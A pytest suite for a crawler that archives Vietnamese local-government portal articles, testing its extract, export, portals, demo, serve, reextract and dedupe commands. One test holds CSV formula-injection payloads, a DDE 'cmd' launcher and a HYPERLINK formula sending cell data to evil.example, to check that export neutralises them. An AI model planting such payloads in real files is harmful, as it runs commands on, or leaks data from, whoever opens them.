"""The command line of docs/interface.md, run as a user runs it (fresh processes)."""
from __future__ import annotations

import csv
import datetime as dt
import re
import io
import json
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import urlencode

import pytest

from archive.fold import fold
from tests.conftest import REPO, cli

EVAL = REPO / "bench" / "data" / "extraction"
CONTRACT_KEYS = {"url", "title", "published_at", "author", "category", "text", "officials"}  # officials: issue 12


def gold_pages(kind: str, n: int) -> list[dict]:
    pages = [json.loads(line) for line in (EVAL / "gold.jsonl").read_text(encoding="utf-8").splitlines()]
    return [p for p in pages if p["kind"] == kind][:n]


def test_every_subcommand_has_help():
    for command in ("crawl", "extract", "serve", "export", "portals", "demo", "reextract", "dedupe"):
        result = cli(command, "--help")
        assert "Usage:" in result.stdout, command


def test_extract_prints_contract_json_in_argument_order():
    articles = gold_pages("article", 3)
    listing = gold_pages("non-article", 1)[0]
    pages = [*articles[:2], listing, articles[2]]
    args = [str(EVAL / p["file"]) for p in pages]
    urls = [a for p in pages for a in ("--url", p["url"])]
    result = cli("extract", *args, *urls)
    lines = result.stdout.splitlines()
    assert len(lines) == 4
    assert "\\u" not in result.stdout  # UTF-8, not escapes
    records = [json.loads(line) for line in lines]
    assert [r["url"] for r in records] == [p["url"] for p in pages]
    assert records[2] == {"url": listing["url"], "error": "not an article"}
    for record, gold in zip([records[0], records[1], records[3]], [articles[0], articles[1], articles[2]]):
        assert set(record) == CONTRACT_KEYS
        assert record["title"] == gold["title"]
        assert record["published_at"][:10] == gold["published_at"][:10]


def test_extract_of_a_listing_alone_fails_with_one_line():
    listing = gold_pages("non-article", 1)[0]
    result = cli("extract", str(EVAL / listing["file"]), check=False)
    assert result.returncode != 0
    assert json.loads(result.stdout) == {"url": None, "error": "not an article"}
    assert len(result.stderr.strip().splitlines()) == 1


def test_bad_flag_and_unreadable_file_give_one_line_errors(tmp_path):
    result = cli("crawl", "--portals", str(tmp_path / "missing.csv"), "--db", str(tmp_path / "a.db"), check=False)
    assert result.returncode != 0
    assert result.stderr.strip().count("\n") == 0 and "cannot read portals file" in result.stderr
    result = cli("export", "--db", str(tmp_path / "none.db"), check=False)
    assert result.returncode != 0 and "no archive" in result.stderr


def test_export_csv_streams_all_matching_rows_for_excel(crawled, tmp_path):
    db = crawled[0]
    out = tmp_path / "all.csv"
    cli("export", "--db", str(db), "-o", str(out))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    total = sqlite3.connect(db).execute("select count(*) from articles").fetchone()[0]
    assert len(rows) == total
    searched = cli("export", "--db", str(db), "--search", "dang uy", "--format", "jsonl").stdout.splitlines()
    for line in searched:  # every word, with or without its diacritics
        record = json.loads(line)
        assert {"dang", "uy"} <= set(re.findall(r"\w+", fold(record["title"] + " " + record["text"])))
    assert len(searched) >= sqlite3.connect(db).execute("select count(*) from articles where text like '%Đảng ủy%'").fetchone()[0] > 0
    dated = [json.loads(l) for l in cli("export", "--db", str(db), "--since", "2025-07-01", "--format", "jsonl").stdout.splitlines()]
    assert dated and all(r["published_at"] >= "2025-07-01" for r in dated)


def test_portals_import_list_and_check(sample_portals, tmp_path):
    csv_path = sample_portals.write_portals_csv(tmp_path / "portals.csv")
    with open(csv_path, "a", encoding="utf-8") as f:
        f.write("ftp://bad,Bad,commune,,,,x\n")
    db = tmp_path / "reg.db"
    imported = cli("portals", "import", str(csv_path), "--db", str(db))
    assert f"imported {len(sample_portals.portals)} portals" in imported.stdout
    assert "bad URL" in imported.stderr
    listed = cli("portals", "list", "--db", str(db)).stdout.splitlines()
    assert len(listed) == len(sample_portals.portals)
    checked = cli("portals", "check", "--db", str(db), "--timeout", "5")
    assert checked.stdout.count("200\t") == len(sample_portals.portals)


def test_reextract_rebuilds_rows_from_stored_html(crawled, tmp_path):
    db = tmp_path / "copy.db"
    src = sqlite3.connect(crawled[0])
    src.backup(sqlite3.connect(db))
    conn = sqlite3.connect(db)
    before = dict(conn.execute("select id, text from articles"))
    conn.execute("update articles set text = 'hỏng', title = 'hỏng'")
    conn.commit()
    result = cli("reextract", "--db", str(db))
    assert f"re-extracted {len(before)} articles: {len(before)} changed" in result.stdout
    assert dict(conn.execute("select id, text from articles")) == before


def test_scrapy_crawl_command_works_too(sample_portals, tmp_path):
    portal = sample_portals.portals[0]
    csv_path = tmp_path / "one.csv"
    csv_path.write_text(f"url,name\n{portal['url']},{portal['name']}\n", encoding="utf-8")
    db = tmp_path / "scrapy.db"
    scrapy = shutil.which("scrapy", path=str(Path(sys.executable).parent)) or "scrapy"
    subprocess.run(
        [scrapy, "crawl", "portal", "-a", f"portals={csv_path}", "-s", f"PORTAL_ARCHIVE_DB={db}",
         "-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_START_DELAY=0.01", "-s", "LOG_LEVEL=WARNING"],
        cwd=REPO, check=True, timeout=300, capture_output=True,
    )
    count = sqlite3.connect(db).execute("select count(*) from articles").fetchone()[0]
    assert count >= 5


def test_demo_crawls_sample_portals_twice_with_an_edit_and_a_deletion(tmp_path):
    db = tmp_path / "demo.db"
    result = cli("demo", "--db", str(db), "--no-serve")
    assert "sample portals" in result.stdout and "round 2" in result.stdout
    conn = sqlite3.connect(db)
    assert conn.execute("select count(*) from portals").fetchone()[0] >= 4
    assert conn.execute("select count(distinct cms) from articles").fetchone()[0] >= 4  # CMS families detected
    assert conn.execute("select count(*) from articles").fetchone()[0] >= 40
    assert conn.execute("select count(*) from article_versions").fetchone()[0] >= 1
    assert conn.execute("select count(*) from articles where deleted_at is not null").fetchone()[0] >= 1
    newest = conn.execute("select max(substr(published_at, 1, 10)) from articles").fetchone()[0]
    assert newest >= (dt.date.today() - dt.timedelta(days=3)).isoformat()  # fresh relative to today
    attention = conn.execute("select count(distinct portal_id) from portals_needing_attention").fetchone()[0]
    assert attention == 1  # one quiet portal; the others are healthy


def test_demo_and_serve_say_when_the_port_is_busy(tmp_path, crawled):
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(1)
        port = str(taken.getsockname()[1])
        started = time.monotonic()
        demo = cli("demo", "--db", str(tmp_path / "d.db"), "--port", port, check=False, timeout=60)
        assert demo.returncode != 0 and "cannot listen" in demo.stderr and "--port" in demo.stderr
        assert time.monotonic() - started < 30  # before crawling, not after
        assert not (tmp_path / "d.db").exists()
        serve = cli("serve", "--db", str(crawled[0]), "--port", port, check=False, timeout=60)
        assert serve.returncode != 0 and "cannot listen" in serve.stderr


def test_serve_port_zero_picks_a_free_port(crawled):
    process = subprocess.Popen([sys.executable, "-m", "crawler", "serve", "--db", str(crawled[0]), "--port", "0"],
                               cwd=REPO, stdout=subprocess.PIPE, text=True)
    try:
        line = process.stdout.readline()
        port = int(re.search(r":(\d+)/", line)[1])
        assert port > 0
        from urllib.request import urlopen

        for _ in range(50):
            try:
                assert urlopen(f"http://127.0.0.1:{port}/", timeout=5).status == 200
                break
            except OSError:
                time.sleep(0.2)
        else:
            raise AssertionError("nothing served on the port it named")
    finally:
        process.terminate()
        process.wait(timeout=10)


def test_demo_never_deletes_an_archive_another_process_has_open(tmp_path):
    db = tmp_path / "busy.db"
    setup = sqlite3.connect(db)
    setup.execute("create table kept (x)")
    setup.close()
    holder = subprocess.Popen([sys.executable, "-c", "import sqlite3, sys, time; c = sqlite3.connect(sys.argv[1]); "
                               "c.execute('select * from kept').fetchall(); print('open', flush=True); time.sleep(60)",
                               str(db)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "open"
        result = cli("demo", "--db", str(db), "--no-serve", check=False)
        assert result.returncode != 0 and "is open in process" in result.stderr and str(holder.pid) in result.stderr
        assert sqlite3.connect(db).execute("select count(*) from sqlite_master where name = 'kept'").fetchone()[0] == 1
    finally:
        holder.kill()
        holder.wait()


def test_export_search_language_is_the_web_search(crawled, tmp_path):
    import asyncio

    from datasette_config.app import make_datasette

    db = crawled[0]
    for query in ('"dang uy"', "dang OR uy", "dang -uy", "Đảng ủy", "thuy*"):
        exported = [json.loads(line)["id"] for line in
                    cli("export", "--db", str(db), "--search", query, "--format", "jsonl").stdout.splitlines()]

        async def web():
            response = await make_datasette(db).client.get("/search.csv?" + urlencode({"q": query, "sort": "newest"}))
            return [int(r["id"]) for r in csv.DictReader(io.StringIO(response.text.lstrip("\ufeff")))]

        assert exported == asyncio.run(web()), query
    assert len(cli("export", "--db", str(db), "--search", '"dang uy"', "--format", "jsonl").stdout.splitlines()) < \
        len(cli("export", "--db", str(db), "--search", "dang uy", "--format", "jsonl").stdout.splitlines())
    bad = cli("export", "--db", str(db), "--search", "-uy", check=False)
    assert bad.returncode == 2 and "at least one word" in bad.stderr


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_csv_neutralises_formulas(tmp_path, start):
    from archive.store import Archive

    db = tmp_path / "formula.db"
    arc = Archive(db)
    portal = arc.upsert_portal({"url": "http://x.example.vn/", "name": start + "cmd|' /C calc'!A0"})
    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"bấm")'
    arc.save_article({"url": "http://x.example.vn/tin/1", "title": payload, "text": "Nội dung.\n" + payload,
                      "author": start + "1+1"}, portal_id=portal, seen_at="2025-01-01T00:00:00+00:00")
    arc.close()
    out = tmp_path / "out.csv"
    cli("export", "--db", str(db), "-o", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert rows[0]["title"] == "'" + payload and rows[0]["author"] == "'" + start + "1+1"
    assert rows[0]["portal_name"].startswith("'" + start)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0].values())


def test_dedupe_rebuild_gives_the_crawls_clusters(crawled, tmp_path):
    db = tmp_path / "dedupe.db"
    sqlite3.connect(crawled[0]).backup(sqlite3.connect(db))
    conn = sqlite3.connect(db)
    incremental = conn.execute("select id, duplicate_of from articles order by id").fetchall()
    assert any(dup is not None for _, dup in incremental), "the sample portals republish one press release"
    conn.execute("update articles set duplicate_of = null")
    conn.commit()
    result = cli("dedupe", "--rebuild", "--db", str(db))
    assert "stories=" in result.stdout or "duplicates=" in result.stdout
    assert conn.execute("select id, duplicate_of from articles order by id").fetchall() == incremental


def test_export_upgrades_an_archive_of_the_old_schema_and_writes_xlsx(tmp_path):
    """Schema 1 kept a folded copy (article_search); export, like serve, upgrades it first."""
    import openpyxl
    import sqlite_utils

    path = tmp_path / "old.db"
    db = sqlite_utils.Database(path)
    db["portals"].insert({"id": 1, "url": "http://xa.gov.vn/", "name": "Xã"}, pk="id")
    db["articles"].insert({"id": 7, "url": "http://xa.gov.vn/a", "portal_id": 1, "title": "=Đảng ủy xã",
                           "text": "Hội nghị", "published_at": "2024-05-01"}, pk="id")
    db["article_search"].insert({"article_id": 7, "title": fold("=Đảng ủy xã"), "text": fold("Hội nghị")},
                                pk="article_id")
    db["article_search"].enable_fts(["title", "text"], fts_version="FTS5", create_triggers=True)
    db.close()
    out = tmp_path / "out.xlsx"
    result = cli("export", "--db", str(path), "--search", "dang uy", "--format", "xlsx", "-o", str(out))
    assert "upgrading" in result.stderr
    rows = list(openpyxl.load_workbook(out, read_only=True).worksheets[0].iter_rows(values_only=True))
    assert rows[1][0] == 7 and rows[1][2] == "'=Đảng ủy xã"
    assert "upgrading" not in cli("export", "--db", str(path), "--search", "dang uy").stderr
    assert cli("export", "--format", "xlsx", "--db", str(path), check=False).returncode == 2
